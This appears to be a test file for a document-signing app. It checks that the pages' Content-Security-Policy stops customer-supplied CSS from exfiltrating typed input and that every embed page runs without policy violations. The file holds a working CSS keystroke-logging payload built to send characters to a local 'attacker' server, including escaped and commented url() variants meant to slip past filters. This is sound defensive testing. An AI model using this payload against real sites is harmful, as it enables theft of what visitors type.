// The pages' Content-Security-Policy in Chromium: the customer's `css` cannot read what a visitor
// types (attribute selectors loading a URL per keystroke reach no server), and no page kind
// breaks under the policy (any violation fails the stack; see support/stack.ts).
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, describe, expect } from 'vitest'
import { makePdf } from './support/pdf.js'
import { openPage, sendDocument, sig, signing, text } from './support/sign.js'
import { createEnvelope, mount, mountDeployed, SAFETY_NET, type Stack, startStack } from './support/stack.js'
import { test } from './support/fixtures.js'
import { editor } from './support/ui.js'

let stack: Stack
let attacker: Server
let attackerUrl: string
const stolen: string[] = []

test.beforeAll(async ({ browser }) => {
  stack = await startStack(browser)
  // Another origin than the host's and the parent's: everything it is asked for is a leak.
  attacker = createServer((req, res) => {
    stolen.push(req.url ?? '')
    res.writeHead(200, { 'Content-Type': 'image/png', 'Access-Control-Allow-Origin': '*' }).end()
  })
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r))
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`
})
afterAll(async () => {
  await new Promise((r) => attacker?.close(r))
  await stack?.close()
})

/** The keystroke logger: one rule per character a value may start or end with, in every spelling that loads. */
function maliciousCss(a: string): string {
  const chars = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz '.split('')
  return [
    `@import url(${a}/import.css);`,
    `@import "${a}/import2.css";`,
    `@font-face{font-family:leak;src:url(${a}/font.woff2) format("woff2")}`,
    `@font-face{font-family:leak2;src:src("${a}/font2.woff2")}`,
    `input,textarea{font-family:leak,leak2,sans-serif}`,
    // Unconditional loads: the test cannot pass because no selector matched.
    `html{background-image:url(${a}/always)}`,
    `body{cursor:u\\72l(${a}/escaped),auto}`,
    `main{background-image:\\75 rl(${a}/escaped-space)}`,
    `div{background-image:u/**/rl(${a}/comment)}`,
    `body::after{content:"";background-image:image-set("${a}/image-set" 1x)}`,
    `body::before{content:"";background-image:-webkit-image-set(url(${a}/webkit-image-set) 1x)}`,
    ...chars.map((c) => `input[value^="${c}"]{background-image:url(${a}/start/${encodeURIComponent(c)})}`),
    ...chars.map((c) => `input[value$="${c}"]{background-image:url("${a}/end/${encodeURIComponent(c)}")}`),
    ...chars.map((c) => `input[value*="${c}"]{border-image:url('${a}/has/${encodeURIComponent(c)}') 1}`),
    // The legitimate part: a colour that must still apply.
    `body{color:rgb(1, 2, 3) !important}`,
  ].join('\n')
}

/** A template whose visitor fills a text field and signs, and its direct link. */
async function directLink(title: string) {
  const files = [{ name: `${title}.pdf`, buffer: await makePdf(title, 1) }]
  const t = await createEnvelope(stack, { type: 'TEMPLATE', title, files, recipients: [{ email: 'visitor@example.com', name: 'Visitor', role: 'SIGNER', fields: [text('Secret', 10, 20), sig(10, 80)] }] })
  return stack.api('POST', '/template/direct/create', { templateId: Number(t.secondaryId.split('_')[1]), directRecipientId: t.recipients[0].id })
}

describe('the customer css cannot read the page', () => {
  test('a direct-link embed framed by any site: typing leaks nothing, and the css still styles the page', async () => {
    const link = await directLink('Leak')
    const { page, frame } = await mount(stack, 'EmbedDirectTemplate', { token: link.token, css: maliciousCss(attackerUrl) })
    const s = signing(page, frame)
    await s.ready()
    await s.field('Secret').click()
    const dialog = frame.getByRole('dialog', { name: 'Secret' })
    const box = dialog.getByRole('textbox', { name: 'Secret' })
    await box.pressSequentially('Dear Visitor')
    // The value is in the attribute the selectors read.
    expect(await box.evaluate((el: HTMLInputElement) => el.getAttribute('value') ?? el.value)).toBe('Dear Visitor')
    expect(await frame.locator('body').evaluate((b) => getComputedStyle(b).color)).toBe('rgb(1, 2, 3)')
    await page.waitForTimeout(500)
    expect(stolen).toEqual([])
    // Nothing of it was even asked for: the css lost its loads before the browser saw it.
    expect(stack.cspViolations).toEqual([])

    // The policy alone: the same css put in the page as it is (the guard skipped), with the
    // page's own nonce, still loads nothing from another origin; the browser reports each refusal.
    await box.evaluate((el, css) => {
      const style = document.createElement('style')
      style.nonce = document.querySelector<HTMLMetaElement>('meta[property="csp-nonce"]')!.nonce
      style.textContent = css
      document.head.append(style)
      el.blur()
      el.focus()
    }, maliciousCss(attackerUrl))
    await box.pressSequentially(' again')
    await expect.poll(() => stack.cspViolations.some((v) => v.startsWith('img-src'))).toBe(true)
    await page.waitForTimeout(500)
    expect(stolen).toEqual([])
    const refused = stack.cspViolations.splice(0)
    expect(refused.every((v) => v.includes(attackerUrl)), refused.join('\n')).toBe(true)
    // A style element without the nonce is refused outright.
    await box.evaluate((_el, a) => {
      const style = document.createElement('style')
      style.textContent = `html{background-image:url(${a}/no-nonce)}`
      document.head.append(style)
    }, attackerUrl)
    await expect.poll(() => stack.cspViolations.some((v) => v.startsWith('style-src-elem'))).toBe(true)
    stack.cspViolations.splice(0)
    expect(stolen).toEqual([])
    await page.close()
  })
})

describe('every page kind runs under its policy without a violation', () => {
  const policyOf = async (url: string) => (await fetch(url)).headers.get('content-security-policy') ?? ''

  test('authoring, signing, direct links, multi-sign, the API reference and the mailbox', async () => {
    const doc = await sendDocument(stack, { title: 'Policy', recipients: [{ email: 'p@example.com', name: 'P', role: 'SIGNER', fields: [text('City', 10, 20), sig(10, 80)] }] })
    const other = await sendDocument(stack, { title: 'Policy 2', recipients: [{ email: 'p@example.com', name: 'P', role: 'SIGNER', fields: [sig(10, 80)] }] })
    const link = await directLink('Policy link')
    const token = doc.recipient('p@example.com').token
    const css = 'body{color:rgb(4, 5, 6)}'

    // Each kind sends the policy: own scripts, a nonce for the customer's style.
    for (const path of [`/embed/v2/authoring/envelope/create?token=${await stack.presign()}`, `/sign/${token}`, `/embed/sign/${token}`, `/d/${link.token}`, `/embed/direct/${link.token}`, `/embed/v1/multisign?token=${token}`]) {
      const policy = await policyOf(stack.host.url + path)
      expect(policy, path).toContain("script-src 'self'")
      expect(policy, path).toMatch(/style-src 'self' 'nonce-[A-Za-z0-9+/=]+'/)
    }

    const create = await mount(stack, 'EmbedCreateEnvelope', { presignToken: await stack.presign(), type: 'DOCUMENT', css })
    await create.frame.getByRole('button', { name: 'Continue' }).waitFor()
    expect(await create.frame.locator('body').evaluate((b) => getComputedStyle(b).color)).toBe('rgb(4, 5, 6)')
    await create.page.close()

    const draft = await createEnvelope(stack, { type: 'DOCUMENT', title: 'Draft', files: [{ name: 'draft.pdf', buffer: await makePdf('Draft', 1) }], recipients: [{ email: 'd@example.com', name: 'D', role: 'SIGNER' }] })
    const update = await mount(stack, 'EmbedUpdateEnvelope', { presignToken: await stack.presign(), envelopeId: draft.id, onlyEditFields: true, css })
    // The fields step draws the PDF (pdf.js and its worker).
    await editor(update.page, update.frame).page(0, 1).waitFor()
    await update.frame.locator('.page-loading').first().waitFor({ state: 'detached', timeout: SAFETY_NET })
    await update.page.close()

    for (const url of [`${stack.host.url}/sign/${token}`, `${stack.host.url}/d/${link.token}`]) {
      const { page, context } = await openPage(stack, url)
      await signing(page).ready()
      await context.close()
    }
    const embedSign = await mount(stack, 'EmbedSignDocument', { token, css })
    await signing(embedSign.page, embedSign.frame).ready()
    expect(await embedSign.frame.locator('body').evaluate((b) => getComputedStyle(b).color)).toBe('rgb(4, 5, 6)')
    await embedSign.page.close()

    const multi = await mountDeployed(stack, 'unstable_EmbedMultiSignDocument', { tokens: [token, other.recipient('p@example.com').token], css })
    await multi.frame.getByText('Policy 2').first().waitFor()
    await multi.page.close()

    const docs = await openPage(stack, `${stack.host.apiUrl}/docs`)
    await docs.page.locator('.swagger-ui .info').waitFor()
    await docs.context.close()

    const mailbox = await openPage(stack, `${stack.host.url}/mailbox`)
    await mailbox.page.getByText('Policy', { exact: false }).first().click()
    await mailbox.page.locator('iframe').waitFor()
    await mailbox.context.close()

    expect(stack.cspViolations).toEqual([])
  })
})
